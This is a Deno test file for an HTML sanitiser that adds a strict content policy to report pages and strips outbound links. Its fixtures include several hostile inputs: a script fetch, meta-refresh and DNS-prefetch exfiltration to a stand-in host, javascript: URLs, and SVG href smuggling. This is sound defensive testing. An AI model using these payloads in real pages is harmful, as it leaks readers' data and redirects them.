import assert from "node:assert/strict";
import { parse } from "parse5";
import { guardHtml } from "./guard_html.ts";

interface Node {
  readonly nodeName: string;
  readonly attrs?: readonly { readonly name: string; readonly value: string }[];
  readonly childNodes?: readonly Node[];
  readonly content?: Node;
}

function guard(text: string): string {
  return new TextDecoder().decode(guardHtml(new TextEncoder().encode(text)));
}

/** Elements in document order, as a browser builds them. */
function elements(html: string): readonly Node[] {
  const all: Node[] = [];
  const visit = (node: Node): void => {
    if (node.attrs !== undefined) all.push(node);
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content !== undefined) visit(node.content);
  };
  visit(parse(html) as unknown as Node);
  return all;
}

function attribute(node: Node, name: string): string | undefined {
  return node.attrs?.find((each) => each.name === name)?.value;
}

const GUARDED = `
<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-AAAA'; base-uri 'none'; form-action 'none'">
    <title>t</title></head><body><p>data</p></body></html>`;

Deno.test("a page with the report plugin's own policy keeps it, and looks no names up", () => {
  const [before, after] = guard(GUARDED).split('<meta http-equiv="x-dns-prefetch-control"');
  assert.equal(before + after!.replace(' content="off">', ""), GUARDED);
  const lookups = elements(guard(GUARDED)).find((node) =>
    attribute(node, "http-equiv") === "x-dns-prefetch-control"
  );
  assert.equal(attribute(lookups!, "content"), "off");
});

const HOSTILE: Readonly<Record<string, string>> = {
  "nothing of its own": "<p>hello</p><script>fetch('//e.example')</script>",
  "a head of its own": "<!doctype html><html><head><script>1</script></head><body></body></html>",
  "a weak policy": GUARDED.replace("default-src 'none'", "default-src *"),
  "something before its policy": GUARDED.replace("<title>", "").replace(
    "<meta name",
    "<script>1</script><meta name",
  ),
  "a policy in a comment": `<!--${GUARDED}--><script>1</script>`,
  "a policy in an attribute": `<!doctype html><html lang="en"><head><meta charset="utf-8">` +
    `<meta name="x" content="<meta http-equiv="><script>1</script>`,
  "another encoding by its first bytes": "\uFEFF<script>1</script>",
  "a space that is none in HTML": GUARDED.replace("<head>", "\u00a0<head>"),
  "an encoding beyond where browsers look for it": GUARDED.replace(
    "<head>",
    `<head>${" ".repeat(1100)}`,
  ),
  "two byte order marks": `\uFEFF\uFEFF${GUARDED}`,
  "a known beginning without a policy":
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><script>1</script>`,
};

for (const [name, html] of Object.entries(HOSTILE)) {
  Deno.test(`a page with ${name} gets the kernel's policy before anything that could act`, () => {
    const all = elements(guard(html));
    const policy = all.findIndex((node) =>
      attribute(node, "http-equiv") === "Content-Security-Policy" &&
      attribute(node, "content")!.startsWith("default-src 'none'; style-src 'unsafe-inline'")
    );
    assert.ok(policy >= 0, "there is no policy");
    const text = guard(html);
    assert.ok(text.indexOf('charset="utf-8"') < 1000, "browsers look no further for an encoding");
    assert.equal(guard(text), text, "doing it again changes nothing");
    const before = all.slice(0, policy).map(({ nodeName }) => nodeName);
    assert.deepEqual(before, ["html", "head", "meta"]);
    assert.equal(attribute(all[2]!, "charset"), "utf-8");
  });
}

Deno.test("a page cannot go elsewhere or have names looked up by itself", () => {
  const ways = [
    `<meta http-equiv="refresh" content="0;url=https://e.example/?secret">`,
    `<META HTTP-EQUIV=refresh content="0;url=//e.example">`,
    `<link rel="dns-prefetch" href="//secret.e.example"><LINK rel=preconnect href="//e.example">`,
    `<iframe srcdoc="&lt;link rel=dns-prefetch href=//e.example&gt;"></iframe>`,
  ];
  for (const page of ["", GUARDED]) {
    for (const way of ways) {
      const all = elements(guard(page + way));
      const own = all.filter((node) => attribute(node, "content")?.includes("e.example"));
      assert.ok(own.every((node) => attribute(node, "http-equiv") === undefined), way);
      assert.ok(!all.some(({ nodeName }) => nodeName === "link"), way);
      assert.ok(!all.some((node) => attribute(node, "srcdoc") !== undefined), way);
    }
  }
});

/** Where an element leads, whatever the attribute is called. */
function leads(html: string): readonly string[] {
  return elements(html).flatMap(({ attrs }) => attrs ?? [])
    .filter(({ name }) => /href$|^attributename$/i.test(name)).map(({ value }) => value);
}

Deno.test("a page leads to papers and to files beside it, and nowhere else at any click", () => {
  const fine = ["#content", "findings_2.html", "../../report.html", "artifacts/a/b.csv#x"];
  const papers = ["https://doi.org/10.1/x?y", "https://arxiv.org/abs/2001.00001"];
  for (const page of ["", GUARDED]) {
    for (const href of [...fine, ...papers]) {
      assert.deepEqual(leads(guard(`${page}<a href="${href}">x</a>`)), [href]);
    }
    const elsewhere = [
      `<a href="https://e.example/?data" style="position:fixed;inset:0"></a>`,
      `<A HREF=//e.example>`,
      `<a href='#' href="https://e.example">`,
      `<a title='href="#' href=https://e.example>`,
      `<a href="https://doi.org.e.example/">`,
      `<a href="https://doi.org@e.example/">`,
      `<a href="javascript:alert(1)">`,
      `<a href="a\\..\\b">`,
      `<a href="//e.example">`,
      `<a href="../../../up.html">`,
      `<a\nhref\n=\n"https://e.example">`,
      `<svg><a xlink:href="https://e.example"><text>x</text></a></svg>`,
      `<svg><a><set attributeName="h&#114;ef" to="https://e.example"/></a></svg>`,
      `<math href="https://e.example"><mi>x</mi></math>`,
      `<map><area shape=rect coords=0,0,9999,9999 href="https://e.example"></map>`,
    ];
    for (const way of elsewhere) {
      const left = leads(guard(page + way));
      assert.deepEqual(left.filter((value) => value !== "#"), [], way);
    }
  }
});

Deno.test("text that names such things reads as before", () => {
  const html = guard(`${GUARDED}<p id="x">http-equiv srcdoc href</p>`);
  const text = JSON.stringify(
    parse(html),
    (key, value) => key === "parentNode" ? undefined : value,
  );
  assert.ok(text.includes("http-equiv srcdoc href"));
});
